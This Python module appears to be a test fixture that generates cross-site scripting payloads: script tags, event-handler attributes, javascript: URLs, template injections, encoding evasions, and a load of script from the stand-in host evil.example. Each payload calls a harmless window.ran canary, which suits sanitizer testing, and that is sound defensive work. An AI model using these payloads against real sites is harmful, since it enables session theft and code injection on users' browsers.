"""Texts that would run as code where a page took them for more than texts."""

from __future__ import annotations

import html
import urllib.parse
from collections.abc import Iterator

RUN = "window.ran('{}')"
# What runs a call, `@`, where it is put into a page as it is.
MARKUP = (
    "<script>@</script>", "<script src=data:text/javascript,@></script>", "<img src=x onerror=@>",
    "<img src=x onerror=\"@\">", "<svg onload=@>", "<svg><script>@</script></svg>", "<svg/onload=@//",
    "<iframe src=\"javascript:@\"></iframe>", "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<body onload=@>", "<input autofocus onfocus=@>", "<details open ontoggle=@>x</details>",
    "<video><source onerror=@></video>", "<audio src=x onerror=@>", "<object data=\"javascript:@\">",
    "<embed src=\"javascript:@\">", "<a href=\"javascript:@\">a</a>", "<math href=\"javascript:@\">x</math>",
    "<form action=\"javascript:@\"><button>b</button></form>", "<button formaction=\"javascript:@\">b</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">", "<base href=\"javascript:@//\">",
    "<link rel=stylesheet href=\"data:text/css,*{}\" onload=@>", "<style onload=@></style>",
    "<style>@import 'javascript:x'</style><marquee onstart=@>m</marquee>", "<select autofocus onfocus=@>",
    "<textarea autofocus onfocus=@>", "<keygen autofocus onfocus=@>", "<template><script>@</script></template>",
    "<noscript><img src=x onerror=@></noscript>", "<xmp><script>@</script></xmp>", "<!--><script>@</script>-->",
    "<![CDATA[<script>@</script>]]>", "<isindex type=image src=x onerror=@>", "<table background=\"javascript:@\">",
    "<div style=\"background:url(javascript:@)\">d</div>", "<div style=\"animation:x\" onanimationstart=@>d</div>",
    "<p onpointerenter=@ onclick=@>p</p>", "<custom-element onfocus=@ tabindex=1 autofocus>c</custom-element>",
    "<img srcset=\"x 1x\" onerror=@>", "<image href=x onerror=@>", "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:@\"><text>t</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=@>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>", "<dialog open onclose=@>d</dialog>",
    "<portal src=\"javascript:@\"></portal>", "<frameset onload=@>", "<plaintext onfocus=@ autofocus tabindex=0>",
)
# What ends the text or the attribute that it stands in.
ENDINGS = ("", "\"", "'", "`", "\">", "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "\\\">", "\n\n", "*/")
# What runs without markup: where a page made code, an address or a style of it.
BARE = (
    "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "  javascript:@", "data:text/html,<script>@</script>",
    "vbscript:@", "';@;'", "\";@;\"", "`;@;`", "${@}", "{{@}}", "{{constructor.constructor('@')()}}", "#{@}",
    "<%= @ %>", "\\u003cscript\\u003e@\\u003c/script\\u003e", "\\x3cscript\\x3e@\\x3c/script\\x3e",
    "&lt;script&gt;@&lt;/script&gt;", "&#60;script&#62;@&#60;/script&#62;", "+ADw-script+AD4-@+ADw-/script+AD4-",
    "expression(@)", "url(javascript:@)", "__proto__", "constructor", "onerror=@", "[a](javascript:@)",
    "![a](x\"onerror=\"@)", "//evil.example/@", "https://evil.example/x.js", "../../ui/main.js", "#/session/../@",
    "\u202e<script>@</script>", "％3Cscript％3E@", "ʺ><svg onload=@>", "\ufeff<script>@</script>",
)


def _payloads() -> Iterator[str]:
    yield from BARE
    yield from MARKUP
    for at, markup in enumerate(MARKUP):
        yield ENDINGS[1 + at % (len(ENDINGS) - 1)] + markup
        yield ENDINGS[1 + (at + 5) % (len(ENDINGS) - 1)] + markup.swapcase().replace("@", "@")
    for at, markup in enumerate(MARKUP):
        yield (urllib.parse.quote(markup, safe="@"), html.escape(markup), markup.replace("<", "＜"),
               markup.replace(" ", "/"))[at % 4]


# Each reports itself by its number.
PAYLOADS = [text.replace("@", RUN.format(number)) for number, text in enumerate(_payloads())]
